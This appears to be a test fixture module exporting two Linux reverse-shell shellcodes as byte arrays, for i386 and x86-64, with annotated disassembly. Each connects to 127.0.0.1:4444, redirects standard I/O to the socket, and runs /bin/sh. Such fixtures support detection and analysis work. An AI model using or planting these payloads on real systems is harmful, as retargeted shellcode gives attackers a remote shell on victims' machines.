/**
 * Linux connect-back shells written for these tests (not taken from any framework or capture).
 * Assembled with GNU as from the listings in the comments (offset, instruction).
 */

/** i386 Linux: socketcall(SYS_SOCKET), socketcall(SYS_CONNECT 127.0.0.1:4444), dup2 ×3, execve("/bin//sh"). */
export const LINUX_I386_CONNECT_BACK = Uint8Array.from([
  0x31, 0xdb,                                              //    0  xor ebx,ebx
  0xf7, 0xe3,                                              //    2  mul ebx
  0x53,                                                    //    4  push ebx
  0x43,                                                    //    5  inc ebx
  0x53,                                                    //    6  push ebx
  0x6a, 0x02,                                              //    7  push 0x2
  0x89, 0xe1,                                              //    9  mov ecx,esp
  0xb0, 0x66,                                              //    b  mov al,0x66
  0xcd, 0x80,                                              //    d  int 0x80
  0x96,                                                    //    f  xchg esi,eax
  0x68, 0x7f, 0x00, 0x00, 0x01,                            //   10  push 0x100007f
  0x68, 0x02, 0x00, 0x11, 0x5c,                            //   15  push 0x5c110002
  0x89, 0xe1,                                              //   1a  mov ecx,esp
  0x6a, 0x10,                                              //   1c  push 0x10
  0x51,                                                    //   1e  push ecx
  0x56,                                                    //   1f  push esi
  0x89, 0xe1,                                              //   20  mov ecx,esp
  0xb3, 0x03,                                              //   22  mov bl,0x3
  0x6a, 0x66,                                              //   24  push 0x66
  0x58,                                                    //   26  pop eax
  0xcd, 0x80,                                              //   27  int 0x80
  0x89, 0xf3,                                              //   29  mov ebx,esi
  0x6a, 0x02,                                              //   2b  push 0x2
  0x59,                                                    //   2d  pop ecx
  0xb0, 0x3f,                                              //   2e  mov al,0x3f
  0xcd, 0x80,                                              //   30  int 0x80
  0x49,                                                    //   32  dec ecx
  0x79, 0xf9,                                              //   33  jns 0x2e
  0x31, 0xc0,                                              //   35  xor eax,eax
  0x50,                                                    //   37  push eax
  0x68, 0x2f, 0x2f, 0x73, 0x68,                            //   38  push 0x68732f2f
  0x68, 0x2f, 0x62, 0x69, 0x6e,                            //   3d  push 0x6e69622f
  0x89, 0xe3,                                              //   42  mov ebx,esp
  0x50,                                                    //   44  push eax
  0x53,                                                    //   45  push ebx
  0x89, 0xe1,                                              //   46  mov ecx,esp
  0x99,                                                    //   48  cdq
  0xb0, 0x0b,                                              //   49  mov al,0xb
  0xcd, 0x80,                                              //   4b  int 0x80
]);

/** x86-64 Linux: socket, connect 127.0.0.1:4444, dup2 ×3, execve("//bin/sh"). */
export const LINUX_X64_CONNECT_BACK = Uint8Array.from([
  0x6a, 0x29,                                              //    0  push 0x29
  0x58,                                                    //    2  pop rax
  0x6a, 0x02,                                              //    3  push 0x2
  0x5f,                                                    //    5  pop rdi
  0x6a, 0x01,                                              //    6  push 0x1
  0x5e,                                                    //    8  pop rsi
  0x99,                                                    //    9  cdq
  0x0f, 0x05,                                              //    a  syscall
  0x48, 0x97,                                              //    c  xchg rdi,rax
  0x48, 0xb9, 0x02, 0x00, 0x11, 0x5c, 0x7f,                //    e  movabs rcx,0x100007f5c110002
  0x00, 0x00, 0x01,                                        //   15  
  0x51,                                                    //   18  push rcx
  0x48, 0x89, 0xe6,                                        //   19  mov rsi,rsp
  0x6a, 0x10,                                              //   1c  push 0x10
  0x5a,                                                    //   1e  pop rdx
  0x6a, 0x2a,                                              //   1f  push 0x2a
  0x58,                                                    //   21  pop rax
  0x0f, 0x05,                                              //   22  syscall
  0x6a, 0x03,                                              //   24  push 0x3
  0x5e,                                                    //   26  pop rsi
  0x48, 0xff, 0xce,                                        //   27  dec rsi
  0x6a, 0x21,                                              //   2a  push 0x21
  0x58,                                                    //   2c  pop rax
  0x0f, 0x05,                                              //   2d  syscall
  0x75, 0xf6,                                              //   2f  jne 0x27
  0x6a, 0x3b,                                              //   31  push 0x3b
  0x58,                                                    //   33  pop rax
  0x99,                                                    //   34  cdq
  0x48, 0xbb, 0x2f, 0x2f, 0x62, 0x69, 0x6e,                //   35  movabs rbx,0x68732f6e69622f2f
  0x2f, 0x73, 0x68,                                        //   3c  
  0x52,                                                    //   3f  push rdx
  0x53,                                                    //   40  push rbx
  0x48, 0x89, 0xe7,                                        //   41  mov rdi,rsp
  0x52,                                                    //   44  push rdx
  0x57,                                                    //   45  push rdi
  0x48, 0x89, 0xe6,                                        //   46  mov rsi,rsp
  0x0f, 0x05,                                              //   49  syscall
]);
